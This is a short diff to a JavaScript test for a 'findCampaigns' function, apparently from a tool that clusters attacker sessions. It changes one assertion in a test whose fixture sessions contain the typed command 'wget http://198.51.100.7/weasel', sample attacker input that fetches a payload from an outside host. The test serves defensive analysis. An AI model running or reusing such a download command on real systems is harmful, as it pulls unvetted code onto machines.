@@ -161,7 +161,7 @@ describe("findCampaigns", () => {
   test("sessions whose ids are the same for long are two", async () => {
     const ids = ["a", "b"].map(end => "s".repeat(5000) + end);
     const found = await find([ids.flatMap((id, i) => session(id, 10 * i, typed("wget http://198.51.100.7/weasel")))]);
-    expect([found.sessions, membersOf(found)]).toEqual([2, [ids]]);
+    expect(membersOf(found)).toEqual([ids]);
   });
 
   test("of nothing is nothing", async () => {
